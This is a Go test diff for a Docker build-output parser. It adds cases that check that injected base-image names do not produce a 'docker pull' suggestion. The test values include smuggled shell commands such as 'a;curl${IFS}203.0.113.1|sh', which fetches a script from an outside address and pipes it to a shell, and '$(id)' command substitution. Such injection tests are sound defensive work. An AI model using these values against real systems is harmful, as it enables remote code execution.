@@ -28,6 +28,11 @@ func TestFollowABuild(t *testing.T) {
 	if err == nil || !strings.HasPrefix(err.Error(), "step 1 of 2, FROM none:1 AS x: no such host\n") || !strings.Contains(err.Error(), "docker pull none:1,") {
 		t.Errorf("%q", err)
 	}
+	for _, base := range []string{"a;curl${IFS}203.0.113.1|sh", "$(id)", "--help", "a`id`"} { // a recipe may be a stranger's
+		if err := NoBase(Follow(strings.NewReader(`{"stream":"Step 1/2 : FROM `+base+`"}{"error":"invalid reference"}`), say)); err == nil || strings.Contains(err.Error(), "docker pull") {
+			t.Errorf("%s: %q", base, err)
+		}
+	}
 	if err := Follow(strings.NewReader(`{"stream":"Step 1/1 : FROM x"}`), say); err != nil {
 		t.Error(err)
 	}
